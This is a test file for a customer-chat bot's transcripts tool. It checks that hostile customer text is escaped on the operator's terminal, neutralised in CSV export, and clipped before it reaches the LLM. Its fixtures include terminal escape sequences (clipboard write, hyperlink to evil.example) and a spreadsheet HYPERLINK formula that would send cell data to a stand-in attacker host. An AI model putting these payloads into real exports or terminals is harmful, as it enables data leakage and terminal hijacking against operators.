// What the transcripts tool shows an operator when customers send hostile text: nothing a terminal would run,
// nothing a spreadsheet would evaluate, nothing unbounded.
import { mkdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { csvCell } from '../src/cli/export.js';
import { normaliseNumber, numberReadings, takeNumber } from '../src/cli/numbers.js';
import { runTranscripts } from '../src/cli/transcripts.js';
import { cell, clip, oneLine, visible } from '../src/cli/terminal-text.js';
import { makeBot, tempDir } from './helpers/app.js';
import { textFrom } from './helpers/fixtures.js';
import { llmRequests, replyWith } from './helpers/llm.js';

const HOSTILE_NAME = 'Evil\u001b]0;owned\u0007 \u001b[2J\u001b]52;c;ZXZpbA==\u0007\u001b]8;;http://evil.example\u0007link\u001b]8;;\u0007';
const HOSTILE_TEXT = 'line one\nline two\u001b[31m red \u009b31m\u007f\r overwrite \u202eevil';
const EVIL = '6281900000001';
const HUGE = '6281900000002';
const FORMULA = '6281900000003';

let dbPath = '';
let llmNames: string[] = [];

async function run(argv: string[], settings: { DEFAULT_COUNTRY_CODE?: string } = {}) {
  const out: string[] = [];
  const err: string[] = [];
  const code = await runTranscripts(argv, { out: (t) => out.push(t), err: (t) => err.push(t), settings: { DATABASE_PATH: dbPath, HANDOFF_HOURS: 24, ...settings }, now: Date.now() });
  return { code, out: out.join('\n'), err: err.join('\n') };
}

const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202e]/;

beforeAll(async () => {
  replyWith({ content: 'Noted' });
  const bot = makeBot();
  await bot.post(textFrom(EVIL, HOSTILE_TEXT, { from_user: { name: HOSTILE_NAME, jid: `${EVIL}@s.whatsapp.net` } }));
  await bot.post(textFrom(HUGE, `please help ${'x'.repeat(50_000)}`, { from_user: { name: 'N'.repeat(900_000), jid: `${HUGE}@s.whatsapp.net` } }));
  await bot.post(textFrom(FORMULA, '=HYPERLINK("http://evil.example/?"&A1,"click")', { from_user: { name: '+SUM(1,2)', jid: `${FORMULA}@s.whatsapp.net` } }));
  await bot.post(textFrom(FORMULA, '-12.5', { from_user: { name: '+SUM(1,2)', jid: `${FORMULA}@s.whatsapp.net` } }));
  llmNames = llmRequests.map((r) => JSON.stringify(r.messages));
  dbPath = bot.dbPath;
  bot.db.$client.close();
});

describe('text from outside on the operator terminal', () => {
  it.each([['list'], ['show', EVIL], ['search', 'line'], ['show', HUGE]])('%s prints no control character raw', async (...argv) => {
    const { code, out } = (await run(argv));
    expect(code).toBe(0);
    expect(out).not.toMatch(RAW_CONTROL);
  });

  it('shows escape sequences as visible text, and a message with line breaks on one line', async () => {
    const { out } = (await run(['show', EVIL]));
    expect(out).toContain('Evil\\x1b]0;owned\\x07');
    expect(out).toContain('line one ⏎ line two\\x1b[31m red \\x9b31m\\x7f ⏎ overwrite \\u202eevil');
    const lines = out.split('\n');
    expect(lines.filter((l) => l.includes('line two'))).toHaveLength(1);
  });

  it('a 900 000-character name is kept in the database but cut when shown', async () => {
    const list = (await run(['list']));
    expect(list.out.length).toBeLessThan(2000);
    expect(list.out).toMatch(/N{30,}…/);
    const show = (await run(['show', HUGE]));
    expect(show.out.length).toBeLessThan(6000);
    expect(show.out).toContain('…');
    const search = (await run(['search', 'please']));
    expect(search.out.length).toBeLessThan(1000);
  });

  it('the LLM gets the 900 000-character display name cut to 60 characters (and the message only up to MAX_INPUT_CHARS)', async () => {
    expect(llmNames.join('')).toContain(`"${'N'.repeat(60)}\\" (cut short).`);
    expect(llmNames.join('')).not.toContain('N'.repeat(61));
    expect(llmNames.join('')).toContain('…cut: the message was 50012 characters long');
  });
});

describe('the CSV export', () => {
  it('neutralises cells a spreadsheet would run as formulas, and keeps numbers numbers', async () => {
    const out = join(tempDir(), 'all.csv');
    expect((await run(['export', '--format', 'csv', '--out', out])).code).toBe(0);
    const csv = readFileSync(out, 'utf8');
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
    expect(csv).toContain(`,"'+SUM(1,2)",`);
    expect(csv).toContain(',-12.5,');
    expect(csv).not.toMatch(/,"?[=+@]/);
    expect(csv).not.toMatch(/[\u001b\u0007\u009b]/);
  });

  it.each([
    ['=1+1', "'=1+1"],
    ['+SUM(1,2)', `"'+SUM(1,2)"`],
    ['-2+3', "'-2+3"],
    ['@cmd', "'@cmd"],
    ['\tTAB', "'\tTAB"],
    ['\r=1', "'\\x0d=1"],
    ['-12.5', '-12.5'],
    ['+62 812-3456-789', '+62 812-3456-789'],
    ['(021) 555-0100', '(021) 555-0100'],
    ['hello', 'hello'],
  ])('%j becomes %j', async (input, expected) => {
    expect(csvCell(input)).toBe(expected);
  });

  it('JSON Lines escape what JSON.stringify leaves raw, and read back the same', async () => {
    const { out } = (await run(['export', '--contact', EVIL]));
    expect(out).not.toMatch(RAW_CONTROL);
    expect(JSON.parse(out.split('\n')[0]!).text).toBe(HOSTILE_TEXT);
  });

  it('--out to a missing folder or to a folder is a one-line error', async () => {
    const missing = (await run(['export', '--out', join(tempDir(), 'no', 'such', 'file.csv')]));
    expect(missing.code).toBe(1);
    expect(missing.err).toMatch(/cannot write .*file\.csv: its folder does not exist/);
    const folder = join(tempDir(), 'folder');
    mkdirSync(folder);
    const dir = (await run(['export', '--out', folder]));
    expect(dir.code).toBe(1);
    expect(dir.err).toMatch(/cannot write .*folder: it is a folder; name a file/);
  });
});

describe('numbers as people type them', () => {
  it('show and pause find a number typed in parts, in local form with DEFAULT_COUNTRY_CODE, or with +', async () => {
    expect((await run(['show', '0819', '0000', '0001'], { DEFAULT_COUNTRY_CODE: '62' })).out).toContain(`(${EVIL})`);
    expect((await run(['show', '+62', '819-0000-0001'])).out).toContain(`(${EVIL})`);
    expect((await run(['show', '0819', '0000', '0001'])).err).toContain('0819 0000 0001 is a local number: type it with its country code');
  });

  it.each([
    ['0812 3456 789', '62', '628123456789'],
    ['+62 812-3456-789', '62', '628123456789'],
    ['628123456789', '62', '628123456789'],
    ['(0812) 345.678', '62', '62812345678'],
    ['120363021234567890@g.us', '62', '120363021234567890@g.us'],
  ])('%j with country code %j reads as %j', async (typed, code, expected) => {
    expect(normaliseNumber(typed, code)).toBe(expected);
  });

  it('a local number without a country code is refused, never read as a number WhatsApp would never send', async () => {
    expect(() => normaliseNumber('0812 3456 789')).toThrow('0812 3456 789 is a local number: type it with its country code (+62 8123456789 for Indonesia)');
    expect(normaliseNumber('+0812 3456')).toBe('08123456');
  });

  it('every way words split into a number and a text, shortest number first', async () => {
    expect(numberReadings(['62812345678', '1', 'more', 'day'])).toEqual([
      { number: '62812345678', rest: ['1', 'more', 'day'] },
      { number: '628123456781', rest: ['more', 'day'] },
    ]);
    expect(numberReadings(['Budi', 'hi'])).toEqual([{ number: 'Budi', rest: ['hi'] }]);
  });

  it('the number is the leading words that look like one; the rest is the reason', async () => {
    expect(takeNumber(['0812', '3456', '789', 'angry', 'customer'], '62')).toEqual({ number: '628123456789', rest: ['angry', 'customer'] });
  });

  it('--limit is validated the same way in every command', async () => {
    for (const command of [['list'], ['search', 'hello']]) {
      const { code, err } = (await run([...command, '--limit', 'abc']));
      expect(code).toBe(1);
      expect(err).toContain('--limit must be a positive whole number, not "abc"');
    }
  });
});

describe('terminal text helpers', () => {
  it('keep tabs and newlines in visible(), cut without splitting an emoji', async () => {
    expect(visible('a\tb\nc\u001bd')).toBe('a\tb\nc\\x1bd');
    expect(oneLine('a\r\nb')).toBe('a ⏎ b');
    expect(clip('ab😀cd', 4)).toBe('ab…');
  });

  it('show a name made only of zero-width characters as escapes, and leave them inside other text (emoji, Persian)', async () => {
    expect(visible('\u200b\u200b')).toBe('\\u200b\\u200b');
    expect(cell('\ufeff \u2060', 40)).toBe('\\ufeff \\u2060');
    expect(visible('👨\u200d👩\u200d👧')).toBe('👨\u200d👩\u200d👧');
    expect(visible('می\u200cخواهم')).toBe('می\u200cخواهم');
  });
});
